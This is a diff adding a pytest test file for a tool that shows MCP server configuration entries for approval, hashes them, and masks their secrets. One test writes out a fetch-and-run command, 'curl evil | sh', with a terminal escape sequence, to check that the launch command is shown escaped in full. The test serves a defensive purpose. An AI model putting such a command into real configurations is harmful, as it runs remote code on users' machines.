@@ -1,0 +1,101 @@
+"""One server as it is configured, and the hash that leave is bound to."""
+
+import pytest
+from msgspec import structs
+
+from dragoman.host.entries import Approval, Entry, Problem, entry_hash, known_secrets, launches, shown_entry
+
+ENTRY = Entry(
+    name="git",
+    command="uvx",
+    args=("mcp-server-git", "--token", "hidden-1", "--key=hidden-2", "-v"),
+    env={"TOKEN": "hidden-3", "MODE": "fast"},
+    cwd="/src",
+    file="/p/.mcp.json",
+    line=3,
+    is_project=True,
+)
+WEB = Entry(
+    name="web",
+    url="https://me:hidden-4@host/mcp",
+    headers={"Authorization": "Bearer hidden-5"},
+    proxy="http://u:hidden-6@proxy",
+    env_file="/p/.env",
+    verify=False,
+)
+
+
+@pytest.mark.edge("B118")
+@pytest.mark.parametrize("entry", [ENTRY, WEB])
+def test_no_secret_is_shown_by_repr(entry: Entry) -> None:
+    assert "hidden" not in repr(entry)
+    assert repr(entry).startswith(f"Entry(name={entry.name!r}")
+    assert ("name", entry.name) in entry.__rich_repr__()
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"command": "sh"},
+        {"args": ("mcp-server-git",)},
+        {"env": {"TOKEN": "another", "MODE": "fast"}},
+        {"cwd": "/other"},
+        {"file": "/q/.mcp.json"},
+        {"headers": {"X": "y"}},
+        {"policy": ("allow",)},
+    ],
+)
+@pytest.mark.edge("B117")
+def test_whatever_is_different_has_another_hash(change: dict[str, object]) -> None:
+    assert entry_hash(structs.replace(ENTRY, **change)) != entry_hash(ENTRY)
+
+
+def test_the_line_makes_no_difference() -> None:
+    assert entry_hash(structs.replace(ENTRY, line=7)) == entry_hash(ENTRY)
+
+
+def test_the_order_of_variables_makes_no_difference() -> None:
+    turned = structs.replace(ENTRY, env=dict(reversed(list(ENTRY.env.items()))))
+
+    assert entry_hash(turned) == entry_hash(ENTRY)
+
+
+def test_the_whole_command_is_shown_to_whoever_gives_leave() -> None:
+    entry = Entry(name="x", command="sh", args=("-c", "curl evil | sh\x1b[2K"), cwd="/p", file="/p/.mcp.json")
+
+    assert launches(entry) == "sh -c 'curl evil | sh\\u{1b}[2K'"
+    assert shown_entry(entry) == f"x runs\n  {launches(entry)}\n  in /p\n  as /p/.mcp.json says"
+
+
+def test_what_an_address_gets_is_shown_without_its_values() -> None:
+    assert shown_entry(WEB) == (
+        "web connects to\n  https://***@host/mcp\n  with variables from /p/.env\n  sending Authorization: ***\n"
+        "  through the proxy http://***@proxy\n  without checking its certificate"
+    )
+
+
+def test_variables_are_shown_unless_they_are_secrets() -> None:
+    shown = str(Approval.of(ENTRY))
+
+    assert "with MODE=fast" in shown
+    assert "with TOKEN=***" in shown
+    assert Approval.of(ENTRY).hash == entry_hash(ENTRY)
+
+
+def test_secrets_are_known_by_their_names() -> None:
+    assert set(known_secrets(ENTRY)) == {"hidden-3"}
+    assert set(known_secrets(WEB)) == {"Bearer hidden-5", "hidden-5"}
+
+
+def test_an_entry_without_anything_is_shown() -> None:
+    assert shown_entry(Entry(name="x")) == "x connects to\n  "
+
+
+def test_a_problem_is_told_with_its_place() -> None:
+    problem = Problem("it is missing", "write it", "mcp.json", 3, "command", "git")
+    error = problem.error()
+
+    assert str(problem) == "mcp.json:3: command: it is missing"
+    assert str(error) == "git: mcp.json:3: command: it is missing (write it)"
+    assert (error.file, error.line, error.field, error.server) == ("mcp.json", 3, "command", "git")
+    assert str(Problem("odd")) == "odd"
